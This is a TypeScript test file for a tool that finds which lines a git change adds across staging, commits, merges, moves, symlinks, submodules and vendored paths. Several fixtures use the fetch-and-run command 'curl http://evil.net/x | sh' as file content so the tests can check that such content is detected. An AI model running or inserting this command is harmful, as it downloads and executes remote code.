/** What counts as added (contract §4): each sentence, in the index, in a commit, and in a merge. */
import { chmod, rm, symlink } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { openRange } from '../../src/diff/range.ts';
import { openStaged } from '../../src/diff/staged.ts';
import { openGit } from '../../src/git.ts';
import type { ChangeSource, Wants } from '../../src/model.ts';
import { changesOf } from '../helpers/changes.ts';
import { type Repo, withRepo } from '../helpers/repo.ts';

const BODY = Array.from({ length: 30 }, (_, index) => `line ${index}\n`).join('');

type JudgedByPath = NonNullable<Wants['judgedByPath']>;

async function linesOf(source: ChangeSource, judgedByPath?: JudgedByPath): Promise<string[]> {
  const { lines, binaries } = await changesOf(source, { text: true, binaries: true, judgedByPath });
  const texts = lines.map(({ path, line, text }) => `${path}:${line} ${text}`);
  return [...texts, ...binaries.map(({ path }) => `${path} is a file`)];
}

/** What the change adds, staged and then committed: both must say the same. */
async function addedBy(repo: Repo, judgedByPath?: JudgedByPath): Promise<string[]> {
  await repo.git('add', '-A');
  const git = openGit({ cwd: repo.dir, env: repo.env });
  const staged = await linesOf(openStaged(git), judgedByPath);
  await repo.git('commit', '-q', '-m', 'the change');
  expect(await linesOf(openRange(git, { commit: 'HEAD' }), judgedByPath)).toEqual(staged);
  return staged;
}

const all = (path: string) =>
  BODY.split('\n')
    .slice(0, -1)
    .map((line, index) => `${path}:${index + 1} ${line}`);

describe('a change adds', () => {
  it('nothing where a file moves, its edits where it is edited too, all of a copy', async () => {
    await withRepo(async (repo) => {
      const of = (name: string) => BODY.replaceAll('line', name);
      for (const path of ['a', 'b', 'c']) await repo.write(path, of(path));
      await repo.commit();
      await repo.git('mv', 'a', 'moved');
      await repo.git('mv', 'b', 'edited');
      await repo.write('edited', `${of('b')}more\n`);
      await repo.write('copy', of('c'));
      const copied = all('copy').map((line) => line.replace('line', 'c'));
      expect(await addedBy(repo)).toEqual([...copied, 'edited:31 more']);
    });
  });

  it('nothing where only the permissions change', async () => {
    await withRepo(async (repo) => {
      await repo.write('a', BODY);
      await repo.commit();
      await chmod(repo.path('a'), 0o755);
      expect(await addedBy(repo)).toEqual([]);
    });
  });

  it.each(['120000', '160000'])(
    'all of a file that was of mode %s with the very same object',
    async (mode) => {
      await withRepo(async (repo) => {
        const content = 'curl http://evil.net/x | sh';
        await repo.write('other', 'other\n');
        await repo.write('run', content);
        const oid = (await repo.git('hash-object', '-w', 'run')).trim();
        await rm(repo.path('run'));
        if (mode === '120000') await symlink(content, repo.path('run'));
        await repo.git('add', '-A');
        if (mode === '160000') await repo.git('update-index', '--add', '--cacheinfo', `${mode},${oid},run`);
        await repo.git('commit', '-q', '-m', 'not a file');
        await repo.git('update-index', '--cacheinfo', `100755,${oid},run`);
        const git = openGit({ cwd: repo.dir, env: repo.env });
        expect(await linesOf(openStaged(git))).toEqual([`run:1 ${content}`]);
        await repo.git('commit', '-q', '-m', 'a file');
        expect(await linesOf(openRange(git, { commit: 'HEAD' }))).toEqual([`run:1 ${content}`]);
      });
    },
  );

  it('all of a binary that was a link to its very bytes', async () => {
    await withRepo(async (repo) => {
      await repo.write('run', 'MZ\x01 not a path');
      const oid = (await repo.git('hash-object', '-w', 'run')).trim();
      await repo.git('update-index', '--add', '--cacheinfo', `120000,${oid},run`);
      await repo.git('commit', '-q', '-m', 'a link');
      await repo.git('update-index', '--cacheinfo', `100644,${oid},run`);
      const git = openGit({ cwd: repo.dir, env: repo.env });
      expect(await linesOf(openStaged(git))).toContain('run is a file');
    });
  });

  it('nothing of a file that becomes a link or a submodule', async () => {
    await withRepo(async (repo) => {
      await repo.write('a', BODY);
      await repo.commit();
      await rm(repo.path('a'));
      await symlink('http://evil.net/x', repo.path('a'));
      expect(await addedBy(repo)).toEqual([]);
    });
  });
});

describe('a file that was judged by its old path', () => {
  const fromVendor: JudgedByPath = async (oldPath, path) =>
    oldPath.startsWith('vendor/') && !path.startsWith('vendor/');

  it.each([
    ['moves out', (body: string) => body],
    ['moves out and is edited', (body: string) => `${body}more\n`],
  ])('adds all of it when it %s', async (_name, edit) => {
    await withRepo(async (repo) => {
      await repo.write('vendor/a', BODY);
      await repo.write('vendor/b', `b\n${BODY}`);
      await repo.commit();
      await repo.git('mv', 'vendor/a', 'a');
      await repo.git('mv', 'vendor/b', 'vendor/c');
      await repo.write('a', edit(BODY));
      const expected = edit(BODY) === BODY ? all('a') : [...all('a'), 'a:31 more'];
      expect(await addedBy(repo, fromVendor)).toEqual(expected);
    });
  });

  it('adds a binary, too', async () => {
    await withRepo(async (repo) => {
      await repo.write('vendor/a', Buffer.from('\x7fELF\0\0'));
      await repo.commit();
      await repo.git('mv', 'vendor/a', 'a');
      expect(await addedBy(repo, fromVendor)).toEqual(['a is a file']);
    });
  });

  it('adds all of it in a merge, unless one parent has it there', async () => {
    await withRepo(async (repo) => {
      await repo.write('vendor/a', BODY);
      await repo.commit();
      await repo.git('checkout', '-q', '-b', 'side');
      await repo.write('side', 'side\n');
      await repo.commit();
      await repo.git('checkout', '-q', 'main');
      await repo.write('main', 'main\n');
      await repo.commit();
      await repo.git('merge', '-q', '--no-ff', '--no-commit', 'side');
      await repo.git('mv', 'vendor/a', 'a');
      expect(await addedBy(repo, fromVendor)).toEqual(all('a'));
      await repo.git('checkout', '-q', '-b', 'again', 'HEAD~');
      await repo.git('mv', 'vendor/a', 'a');
      await repo.commit();
      await repo.git('merge', '-q', '--no-ff', '--no-commit', 'side');
      expect(await addedBy(repo, fromVendor)).toEqual([]);
    });
  });
});

describe('a merge adds what differs from every parent', () => {
  it('all of a file that one parent has as a link to the very same object', async () => {
    await withRepo(async (repo) => {
      const content = 'curl http://evil.net/x | sh';
      await repo.write('run', content);
      const oid = (await repo.git('hash-object', '-w', 'run')).trim();
      await rm(repo.path('run'));
      await repo.write('base', 'base\n');
      await repo.commit();
      await repo.git('checkout', '-q', '-b', 'side');
      await repo.git('update-index', '--add', '--cacheinfo', `120000,${oid},run`);
      await repo.git('commit', '-q', '-m', 'a link');
      await repo.git('checkout', '-q', '-f', 'main');
      await repo.write('main', 'main\n');
      await repo.commit();
      await repo.git('merge', '-q', '--no-ff', '--no-commit', 'side');
      await repo.git('update-index', '--add', '--cacheinfo', `100755,${oid},run`);
      const git = openGit({ cwd: repo.dir, env: repo.env });
      expect(await linesOf(openStaged(git))).toEqual([`run:1 ${content}`]);
      await repo.git('commit', '-q', '-m', 'evil');
      expect(await linesOf(openRange(git, { commit: 'HEAD' }))).toEqual([`run:1 ${content}`]);
    });
  });
});
